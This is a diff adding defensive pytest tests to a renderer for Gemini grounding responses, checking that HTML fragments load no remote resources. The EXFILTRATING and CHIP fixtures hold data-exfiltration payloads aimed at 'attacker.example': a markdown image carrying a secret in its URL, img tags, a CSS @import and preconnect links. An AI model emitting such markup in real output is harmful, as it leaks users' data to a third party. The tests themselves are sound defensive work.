@@ -228,6 +228,71 @@ def test_the_cli_html_fragments_of_a_batch_are_safe(
         assert_safe(record["output"])
 
 
+# --- Fragments carry their own restrictions -------------------------------------------------
+
+EXFILTRATING = (
+    "Köln 🍕 ![x](https://attacker.example/p?secret=42) <img src=https://attacker.example/i>"
+)
+CHIP = (
+    "<style>@import url(https://attacker.example/a.css)</style>"
+    '<LINK rel=preconnect href="https://secret.attacker.example"><link/rel=dns-prefetch/href=x>'
+    '<img src="https://attacker.example/chip.png"><a class="chip" href="https://www.google.com/search?q=k">k</a>'
+)
+
+
+def gemini_line(text: str) -> dict[str, Any]:
+    metadata = {
+        "webSearchQueries": ["köln"],
+        "searchEntryPoint": {"renderedContent": CHIP},
+        "groundingChunks": [{"web": {"uri": "https://k.example", "title": "K"}}],
+        "groundingSupports": [{"segment": {"endIndex": 5}, "groundingChunkIndices": [0]}],
+    }
+    return {"candidates": [{"content": {"parts": [{"text": text}]}, "groundingMetadata": metadata}]}
+
+
+def frame_document(html: str) -> str:
+    (srcdoc,) = [
+        v or "" for tag, name, v in Page(html).attrs if tag == "iframe" and name == "srcdoc"
+    ]
+    return srcdoc
+
+
+def check_fragment(html: str) -> None:
+    from grounding_protos._render.page import FRAME_CSP
+
+    parsed = Page(html)
+    assert "img" not in parsed.tags and not [n for _, n, _ in parsed.attrs if n == "src"]
+    assert "https://attacker.example/p?secret=42" in parsed.hrefs  # the image, as a link
+    doc = frame_document(html)
+    # the frame's policy comes first, before anything of the chip
+    assert doc.startswith(f'<meta http-equiv="Content-Security-Policy" content="{FRAME_CSP}">')
+    assert "default-src 'none'" in FRAME_CSP and "img-src data:" in FRAME_CSP
+    inner = Page(doc)
+    assert "link" not in inner.tags and "gp-inert-link" in inner.tags
+    assert inner.tags.index("meta") == 0 and "script" not in inner.tags
+
+
+def test_fragments_load_nothing_by_default() -> None:
+    from grounding_protos._render.page import fragment
+
+    grounded = read(gemini_line(EXFILTRATING))
+    assert grounded.text is not None
+    check_fragment(fragment(grounded.text, grounded.citations, search=grounded.search))
+    shown = render(grounded.text, grounded.citations, "html", highlight=True)
+    assert "<img" not in shown and "&lt;img src=https://attacker.example/i&gt;" in shown
+
+
+def test_the_cli_html_fragments_load_nothing(
+    monkeypatch: pytest.MonkeyPatch, capsysbinary: pytest.CaptureFixture[bytes]
+) -> None:
+    line = json.dumps(gemini_line(EXFILTRATING)).encode()
+    code, out = cli(["render", "--jsonl", "--style", "html"], line + b"\n", monkeypatch,
+                    capsysbinary)  # fmt: skip
+    assert code == 0
+    (record,) = map(json.loads, out.splitlines())
+    check_fragment(record["output"])
+
+
 # --- The command line writes only where it is told -------------------------------------------
 
 
